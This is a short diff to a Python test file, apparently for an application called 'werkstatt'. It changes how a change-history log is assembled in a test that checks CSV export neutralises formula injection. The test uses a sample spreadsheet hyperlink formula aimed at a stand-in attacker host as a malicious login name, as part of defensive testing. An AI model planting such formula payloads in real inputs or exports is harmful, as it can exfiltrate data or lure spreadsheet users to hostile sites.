@@ -18,6 +18,7 @@ from werkstatt.errors import LockedError, ValidationError, WerkstattError
 from werkstatt.outputs.csv import to_csv_bytes
 from werkstatt.store import files
 from werkstatt.views import changes, queries
+from werkstatt.views.plan_data import PlanData
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -256,6 +257,7 @@ def test_the_change_history_csv_neutralises_a_formula_typed_as_login_name(con):
     evil = '=hyperlink("http://ev.il/?x","klick")'
     with pytest.raises(ValidationError):
         login.authenticate(con, USERS, evil, "falsch")
-    exported = to_csv_bytes(changes.readable(queries.changes(con))).decode("utf-8-sig")
+    log = changes.readable(queries.changes(con), changes.names_of(PlanData.of(con)))
+    exported = to_csv_bytes(log).decode("utf-8-sig")
     assert "'=hyperlink" in exported and "\n=hyperlink" not in exported
     assert ';=hyperlink' not in exported
